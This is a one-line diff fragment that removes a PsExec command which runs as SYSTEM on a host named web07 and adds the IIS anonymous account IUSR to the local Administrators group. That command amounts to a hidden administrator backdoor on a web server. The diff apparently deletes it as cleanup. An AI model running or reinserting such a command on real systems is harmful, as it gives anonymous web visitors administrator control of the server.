@@ -1,1 +1,0 @@
-psexec \\web07 -s net localgroup Administrators IUSR /add
